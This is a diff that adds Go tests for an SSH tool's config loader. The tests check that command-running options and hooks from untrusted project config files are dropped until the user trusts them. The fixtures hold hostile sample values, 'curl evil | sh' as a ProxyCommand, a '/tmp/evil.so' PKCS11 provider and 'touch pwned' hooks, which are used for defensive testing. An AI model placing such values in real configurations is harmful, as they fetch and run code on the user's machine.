@@ -0,0 +1,120 @@
+package config
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestDropCommands(t *testing.T) {
+	cfg := &Config{
+		Servers: map[string]Server{
+			"api": {
+				Hostname: "10.0.1.10",
+				Options:  map[string]string{"proxycommand": "curl evil | sh", "ServerAliveInterval": "30"},
+				Hooks:    &Hooks{PreConnect: []string{"vpn-up"}},
+			},
+			"db": {Hostname: "10.0.1.20", Options: map[string]string{"LocalCommand": "id", "PermitLocalCommand": "yes"}},
+		},
+		Templates: map[string]Server{"base": {Options: map[string]string{"KnownHostsCommand": "cat"}}},
+		Defaults:  &Server{Options: map[string]string{"PKCS11Provider": "/tmp/evil.so"}},
+		Hooks:     &Hooks{PostDisconnect: []string{"vpn-down"}},
+	}
+	if !cfg.dropCommands() {
+		t.Fatal("dropCommands reported nothing dropped")
+	}
+
+	want := &Config{
+		Servers: map[string]Server{
+			"api": {Hostname: "10.0.1.10", Options: map[string]string{"ServerAliveInterval": "30"}},
+			// No options left must not replace those of lower layers
+			"db": {Hostname: "10.0.1.20"},
+		},
+		Templates: map[string]Server{"base": {}},
+		Defaults:  &Server{},
+	}
+	if !reflect.DeepEqual(cfg, want) {
+		t.Errorf("dropCommands left %+v\nwant %+v", cfg, want)
+	}
+
+	harmless := &Config{Servers: map[string]Server{"api": {Hostname: "10.0.1.10", Options: map[string]string{"Compression": "yes"}}}}
+	if harmless.dropCommands() {
+		t.Error("dropCommands reported a config without commands")
+	}
+}
+
+func TestLoadLayersTrust(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_STATE_HOME", t.TempDir())
+
+	user := writeLayer(t, dir, "servers.json", `{
+  "servers": {"api": {"hostname": "10.0.1.10", "options": {"ProxyCommand": "nc jump %h %p"}}}
+}`)
+	project := writeLayer(t, dir, ".ssh-tool.json", `{
+  "servers": {
+    "api": {"user": "deploy", "options": {"ProxyCommand": "curl evil | sh"}},
+    "web": {"hostname": "10.0.1.30", "hooks": {"pre_connect": ["touch pwned"]}}
+  },
+  "hooks": {"pre_connect": ["touch pwned"]}
+}`)
+	layers := []Layer{{Path: user}, {Path: project, Project: true}}
+
+	cfg, err := LoadLayers(layers)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Untrusted != project {
+		t.Errorf("Untrusted = %q, want %q", cfg.Untrusted, project)
+	}
+	if cfg.Hooks != nil || cfg.Servers["web"].Hooks != nil {
+		t.Errorf("hooks of an untrusted project config were kept: %+v, %+v", cfg.Hooks, cfg.Servers["web"].Hooks)
+	}
+	// The user config's own option is left as it was
+	if got := cfg.Servers["api"]; got.User != "deploy" || got.Options["ProxyCommand"] != "nc jump %h %p" {
+		t.Errorf("api = %+v, want user deploy and the user config's ProxyCommand", got)
+	}
+
+	if err := Trust(project); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err = LoadLayers(layers)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Untrusted != "" || cfg.Hooks == nil || cfg.Servers["api"].Options["ProxyCommand"] != "curl evil | sh" {
+		t.Errorf("trusted project config was not honoured: untrusted %q, hooks %+v, api %+v", cfg.Untrusted, cfg.Hooks, cfg.Servers["api"])
+	}
+
+	// Any change needs trusting again
+	writeLayer(t, dir, ".ssh-tool.json", `{"hooks": {"pre_connect": ["touch pwned again"]}}`)
+	if cfg, err = LoadLayers(layers); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Untrusted != project || cfg.Hooks != nil {
+		t.Errorf("changed project config kept its trust: untrusted %q, hooks %+v", cfg.Untrusted, cfg.Hooks)
+	}
+
+	if err := Trust(project); err != nil {
+		t.Fatal(err)
+	}
+	if ok, err := Untrust(project); err != nil || !ok {
+		t.Fatalf("Untrust = %v, %v, want true", ok, err)
+	}
+	if ok, _ := Untrust(project); ok {
+		t.Error("Untrust of a file no longer trusted reported true")
+	}
+	if cfg, err = LoadLayers(layers); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Untrusted != project {
+		t.Errorf("revoked project config is still trusted")
+	}
+
+	// Only the project layer needs trust
+	cfg, err = LoadLayers([]Layer{{Path: project}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Untrusted != "" || cfg.Hooks == nil {
+		t.Errorf("a --config file lost its hooks: untrusted %q, hooks %+v", cfg.Untrusted, cfg.Hooks)
+	}
+}